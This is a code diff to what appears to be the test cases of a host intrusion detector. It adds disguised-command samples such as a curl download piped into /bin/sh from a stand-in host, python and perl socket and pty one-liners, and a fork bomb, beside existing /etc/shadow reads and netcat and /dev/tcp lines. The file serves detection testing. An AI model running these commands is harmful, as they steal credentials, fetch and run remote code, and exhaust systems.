@@ -166,7 +166,7 @@ DEEDS = {
 }
 
 # Rule: deeds that make it fire although who does them has the name of somebody who may: as a file elsewhere, by a link, by
-# renaming itself or who started it.
+# renaming itself or who started it; or has put a line's end into its arguments.
 PRETENDERS = {
     "Password hashes read": ["/opt/t/sshd read /etc/shadow", "deed as sshd read /etc/shadow",
                              "ln -s /opt/t/deed /tmp/login; /tmp/login read /etc/shadow",
@@ -188,6 +188,10 @@ PRETENDERS = {
     "Netcat listens": ["ln -s /opt/t/nc /tmp/n; /tmp/n -l -p 4444"],
     "Shell connects to the network": ["exec 3>/proc/$$/comm; echo app >&3; : </dev/tcp/203.0.113.9/443"],
     "Shell started by a server": ["nginx as app run sh -c :"],
+    "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket'", "perl -e 'use Socket'",
+                                                    "python3 -c 'import pty; pty.spawn(1)'"],
+    "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'"],
+    "Fork bomb typed": ["sh -c $': || b(){\\nb|b&\\n};:'"],
     "SSH server runs": ["deed as sshd run /opt/t/sshd nothing"],
 }
 
@@ -215,7 +219,7 @@ OUTSIDE = {ENTERED, PRIVILEGED, DIRECTORIES, HOST_FILE, CHANGED}
 
 # Programs by other names; what they do is said by their first argument.
 NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb kubectl kubelet
-kworker linpeas.sh linpeas.txt logrotate map nc nginx nmap openssl ping pkexec pkill python3 rm ssh sshd
+kworker linpeas.sh linpeas.txt logrotate map nc nginx nmap openssl perl ping pkexec pkill python3 rm ssh sshd
 sshdd sshh strace systemctl useradd worker""".split()
 
 # What the deeds find there; a line each.
